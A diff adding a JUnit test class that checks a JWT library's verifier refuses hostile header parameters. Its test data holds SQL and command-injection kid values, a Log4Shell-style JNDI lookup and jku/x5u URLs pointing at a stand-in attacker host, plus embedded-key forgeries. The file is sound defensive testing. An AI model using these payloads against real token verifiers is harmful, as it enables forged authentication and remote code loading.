@@ -1,0 +1,320 @@
+package dev.latchkey.jwt;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.latchkey.json.JsonObjectBuilder;
+import dev.latchkey.json.JsonValue;
+import dev.latchkey.json.JsonValue.JsonArray;
+import dev.latchkey.json.JsonValue.JsonBoolean;
+import dev.latchkey.json.JsonValue.JsonNumber;
+import dev.latchkey.json.JsonValue.JsonObject;
+import dev.latchkey.json.JsonValue.JsonString;
+import dev.latchkey.testing.TestKeys;
+import dev.latchkey.testing.TestTokens;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.security.KeyPair;
+import java.util.List;
+import java.util.Map;
+import java.util.stream.Stream;
+import java.util.zip.Deflater;
+import java.util.zip.DeflaterOutputStream;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+@DisplayName("D: Header parameters that point elsewhere")
+class HeaderAttacksTest {
+
+    private static final KeyPair ATTACKER = TestKeys.rsa("attacker");
+
+    private final Door door = Door.rsa(Algorithm.RS256);
+    private final String good = Door.goodRs256();
+
+    @Test
+    @DisplayName("D1: a kid that walks to an empty file finds no key")
+    void pathTraversal() {
+        door.accepts(good);
+        String token =
+                TestTokens.good("HS256").header("kid", "../../../../dev/null").hmac("SHA256", new byte[1]);
+        door.refuses(token, Reason.UNKNOWN_KEY);
+        Door.hs256().refuses(token, Reason.BAD_SIGNATURE);
+    }
+
+    @ParameterizedTest
+    @DisplayName("D2: a kid that is SQL, a command or an address is compared and nothing else")
+    @ValueSource(
+            strings = {
+                "x' UNION SELECT 'secret' -- ",
+                "$(id)",
+                "`id`",
+                "|/usr/bin/id",
+                "https://attacker.example/k",
+                "file:///proc/self/environ",
+                "${jndi:ldap://attacker.example/k}",
+                "KEY-1",
+                "key-1 ",
+                "key-1/"
+            })
+    void kidAsCommand(String kid) {
+        door.accepts(good);
+        Verification.Rejected rejected =
+                door.refuses(Door.token("RS256").header("kid", kid).rs256(Door.RSA.getPrivate()), Reason.UNKNOWN_KEY);
+        assertThat(rejected.kid()).contains(kid);
+        assertThat(rejected.verifiedKeyId()).isNull();
+    }
+
+    @ParameterizedTest
+    @DisplayName("D3: a kid with NUL or another control character is malformed and is not passed on to logs")
+    @ValueSource(strings = {"key-1\0.pem", "key-1\0", "key-1\n", "\u001b[31mkey-1", "key-1\u0085"})
+    void kidWithControlCharacter(String kid) {
+        door.accepts(good);
+        Verification.Rejected rejected = door.refuses(
+                Door.token("RS256").header("kid", kid).rs256(Door.RSA.getPrivate()), Reason.MALFORMED_HEADER);
+        assertThat(rejected.kid()).isEmpty();
+    }
+
+    @Test
+    @DisplayName(
+            "D4: a kid of 256 characters is compared, one of 257 or an empty one is malformed, one of 6,000 too large")
+    void longKid() {
+        door.accepts(good);
+        String longest = "k".repeat(256);
+        assertThat(door.refuses(signedWithKid(new JsonString(longest)), Reason.UNKNOWN_KEY)
+                        .kid())
+                .contains(longest);
+        for (String kid : List.of("k".repeat(257), "k".repeat(3000), "", " ")) {
+            Verification.Rejected rejected = door.refuses(signedWithKid(new JsonString(kid)), Reason.MALFORMED_HEADER);
+            assertThat(rejected.kid()).isEmpty();
+        }
+        assertThat(door.refuses(signedWithKid(new JsonString("k".repeat(6000))), Reason.TOKEN_TOO_LARGE)
+                        .kid())
+                .isEmpty();
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @DisplayName("D5: a kid that is no string is malformed")
+    @MethodSource("kidsOfOtherTypes")
+    void kidOfOtherType(JsonValue kid) {
+        door.accepts(good);
+        door.refuses(signedWithKid(kid), Reason.MALFORMED_HEADER);
+    }
+
+    static Stream<JsonValue> kidsOfOtherTypes() {
+        return Stream.of(
+                JsonNumber.of(1),
+                new JsonBoolean(true),
+                JsonValue.NULL,
+                new JsonArray(List.of(new JsonString("key-1"))),
+                new JsonObject(Map.of()));
+    }
+
+    @ParameterizedTest
+    @DisplayName("D6: a kid that names a secret fetches nothing")
+    @ValueSource(
+            strings = {"latchkey/other", "arn:aws:secretsmanager:eu-central-1:123456789012:secret:latchkey/other-AbCdEf"
+            })
+    void kidNamesSecret(String kid) {
+        door.accepts(good);
+        door.refuses(signedWithKid(new JsonString(kid)), Reason.UNKNOWN_KEY);
+    }
+
+    @Test
+    @DisplayName("D7: an unknown kid is refused, and so is a missing one where there are several keys")
+    void unknownKid() {
+        door.accepts(good);
+        door.refuses(signedWithKid(new JsonString("key-2")), Reason.UNKNOWN_KEY);
+
+        Door two = Door.of("{\"keys\":[{" + TestKeys.jwkMembers(Door.RSA) + ",\"kid\":\"key-1\"},{"
+                + TestKeys.jwkMembers(ATTACKER) + ",\"kid\":\"key-2\"}]}");
+        two.accepts(good);
+        two.refuses(TestTokens.good("RS256").rs256(Door.RSA.getPrivate()), Reason.UNKNOWN_KEY);
+    }
+
+    @Test
+    @DisplayName("D8: a key embedded as jwk is not used, with and without the real kid")
+    void embeddedJwk() {
+        door.accepts(good);
+        door.refuses(byAttacker("jwk", attackersJwk()), Reason.BAD_SIGNATURE);
+        door.refuses(
+                Door.token("RS256")
+                        .withoutHeader("kid")
+                        .header("jwk", attackersJwk())
+                        .rs256(ATTACKER.getPrivate()),
+                Reason.BAD_SIGNATURE);
+        door.accepts(Door.token("RS256").header("jwk", attackersJwk()).rs256(Door.RSA.getPrivate()));
+    }
+
+    @ParameterizedTest
+    @DisplayName("D9: a jku is not followed")
+    @ValueSource(
+            strings = {
+                "https://attacker.example/jwks.json",
+                "https://real.example@attacker.example/jwks.json",
+                "https://real.example/redirect?to=https://attacker.example/jwks.json",
+                "http://127.0.0.1:1/jwks.json",
+                "not an address"
+            })
+    void jku(String url) {
+        door.accepts(good);
+        door.refuses(byAttacker("jku", new JsonString(url)), Reason.BAD_SIGNATURE);
+    }
+
+    @Test
+    @DisplayName("D10: x5u and x5c are not used")
+    void certificates() {
+        JsonArray chain = new JsonArray(List.of(
+                new JsonString(Fixture.read("keys/rsa-certificate.pem").replaceAll("-----[A-Z ]+-----|\\s", ""))));
+
+        door.accepts(good);
+        door.refuses(byAttacker("x5u", new JsonString("https://attacker.example/c.pem")), Reason.BAD_SIGNATURE);
+        door.refuses(Door.token("RS256").header("x5c", chain).rs256(Fixture.seedPrivateKey()), Reason.BAD_SIGNATURE);
+    }
+
+    @Test
+    @DisplayName("D11: the x5t of the real key beside the attacker's jwk is not used")
+    void thumbprintBesideJwk() {
+        String real = TestKeys.base64url(Forgery.sha256(Door.RSA.getPublic().getEncoded()));
+
+        door.accepts(good);
+        door.refuses(
+                Door.token("RS256")
+                        .header("x5t#S256", real)
+                        .header("x5t", real)
+                        .header("jwk", attackersJwk())
+                        .rs256(ATTACKER.getPrivate()),
+                Reason.BAD_SIGNATURE);
+    }
+
+    @ParameterizedTest
+    @DisplayName("D12: every crit is refused, however correctly signed: of an unknown name, empty, of another type")
+    @ValueSource(
+            strings = {
+                "\"crit\":[\"bork\"],\"bork\":1",
+                "\"crit\":[\"exp\"],\"exp\":1",
+                "\"crit\":[\"alg\"]",
+                "\"crit\":[]",
+                "\"crit\":null",
+                "\"crit\":\"bork\""
+            })
+    void crit(String members) {
+        door.accepts(good);
+        door.accepts(signedHeader("\"bork\":1"));
+        door.refuses(signedHeader(members), Reason.UNSUPPORTED_HEADER);
+    }
+
+    @Test
+    @DisplayName("D13: b64=false is refused with the payload raw and with it encoded, with and without crit")
+    void unencodedPayload() {
+        String header = Parts.base64url("{\"alg\":\"HS256\",\"b64\":false,\"crit\":[\"b64\"]}");
+        String raw = Parts.of(Door.goodHs256()).payloadText();
+        String rawSignature =
+                Parts.of(TestTokens.good("HS256").hs256(TestKeys.SECRET)).signature();
+
+        door.accepts(good);
+        Door.hs256().refuses(header + "." + raw + "." + rawSignature, Reason.MALFORMED_TOKEN);
+        door.refuses(signedHeader("\"b64\":false,\"crit\":[\"b64\"]"), Reason.UNSUPPORTED_HEADER);
+        door.refuses(signedHeader("\"b64\":false"), Reason.UNSUPPORTED_HEADER);
+        door.refuses(signedHeader("\"b64\":true"), Reason.UNSUPPORTED_HEADER);
+    }
+
+    @Test
+    @DisplayName("D14: zip is refused with a deflated payload and with a plain one, and nothing is inflated")
+    void zip() throws IOException {
+        byte[] claims = Parts.of(good).payloadText().getBytes(StandardCharsets.UTF_8);
+
+        door.accepts(good);
+        door.refuses(
+                Door.token("RS256")
+                        .header("zip", "DEF")
+                        .payload(deflated(claims))
+                        .rs256(Door.RSA.getPrivate()),
+                Reason.UNSUPPORTED_HEADER);
+        door.refuses(Door.token("RS256").header("zip", "DEF").rs256(Door.RSA.getPrivate()), Reason.UNSUPPORTED_HEADER);
+        door.refuses(
+                Door.token("RS256").payload(deflated(claims)).rs256(Door.RSA.getPrivate()), Reason.MALFORMED_CLAIMS);
+    }
+
+    @ParameterizedTest
+    @DisplayName("D15: a typ of another kind of token is refused")
+    @ValueSource(
+            strings = {
+                "\"dpop+jwt\"",
+                "\"logout+jwt\"",
+                "\"secevent+jwt\"",
+                "\"at+jwt\"",
+                "\"JOSE\"",
+                "\"application/jwt\"",
+                "\"JWT \"",
+                "\"\"",
+                "null",
+                "1",
+                "[\"JWT\"]"
+            })
+    void otherType(String typ) {
+        door.accepts(good);
+        door.refuses(
+                Door.token("RS256")
+                        .headerText("{\"alg\":\"RS256\",\"typ\":" + typ + "}")
+                        .rs256(Door.RSA.getPrivate()),
+                Reason.WRONG_TYPE);
+    }
+
+    @ParameterizedTest
+    @DisplayName("D16: a typ that is absent or JWT in any case is fine")
+    @ValueSource(strings = {"", "\"typ\":\"JWT\",", "\"typ\":\"jwt\",", "\"typ\":\"Jwt\","})
+    void usualType(String typ) {
+        door.accepts(
+                Door.token("RS256").headerText("{" + typ + "\"alg\":\"RS256\"}").rs256(Door.RSA.getPrivate()));
+    }
+
+    @Test
+    @DisplayName("D17: a PBES2 header with two thousand million rounds is refused before any round is made")
+    void pbes2() {
+        String header = "{\"alg\":\"PBES2-HS256+A128KW\",\"enc\":\"A128GCM\",\"p2s\":\"AAAA\",\"p2c\":2147483647}";
+
+        door.accepts(good);
+        door.refuses(Parts.base64url(header) + ".AAAA.AAAA.AAAA.AAAA", Reason.MALFORMED_TOKEN);
+        door.refuses(Parts.of(good).withHeader(header), Reason.UNSUPPORTED_HEADER);
+        door.refuses(Parts.of(good).withHeader(header.replace("\"enc\":\"A128GCM\",", "")), Reason.WRONG_ALGORITHM);
+    }
+
+    private static JsonObject attackersJwk() {
+        return new JsonObjectBuilder()
+                .put("kty", "RSA")
+                .put("e", "AQAB")
+                .put(
+                        "n",
+                        TestKeys.jwkMembers(ATTACKER)
+                                .replaceAll(".*\"n\":\"", "")
+                                .replaceAll("\".*", ""))
+                .put("kid", Door.KID)
+                .build();
+    }
+
+    private static String byAttacker(String name, JsonValue value) {
+        return Door.token("RS256").header(name, value).rs256(ATTACKER.getPrivate());
+    }
+
+    private static String signedWithKid(JsonValue kid) {
+        return Door.token("RS256").header("kid", kid).rs256(Door.RSA.getPrivate());
+    }
+
+    private static String signedHeader(String members) {
+        return Door.token("RS256")
+                .headerText("{\"alg\":\"RS256\"," + members + "}")
+                .rs256(Door.RSA.getPrivate());
+    }
+
+    private static byte[] deflated(byte[] bytes) throws IOException {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        try (DeflaterOutputStream deflating =
+                new DeflaterOutputStream(out, new Deflater(Deflater.DEFAULT_COMPRESSION, true))) {
+            deflating.write(bytes);
+        }
+        return out.toByteArray();
+    }
+}
